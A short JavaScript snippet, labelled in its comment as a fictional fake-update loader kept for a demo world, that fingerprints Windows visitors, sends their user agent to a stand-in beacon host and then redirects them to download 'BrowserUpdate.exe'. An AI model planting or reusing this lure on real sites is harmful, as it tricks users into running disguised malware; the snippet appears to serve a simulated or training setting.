/* BEV demo world: the fictional fake-update loader. Not executed by anything; kept as the page would be. */
(function () {
  var beacon = "https://telemetry-sync.example.org/api/v2/beacon";
  var payload = "/download/BrowserUpdate.exe";
  if (navigator.userAgent.indexOf("Windows") !== -1) {
    fetch(beacon, {method: "POST", body: JSON.stringify({ua: navigator.userAgent, step: "landing"})});
    setTimeout(function () { window.location = payload; }, 1500);
  }
})();
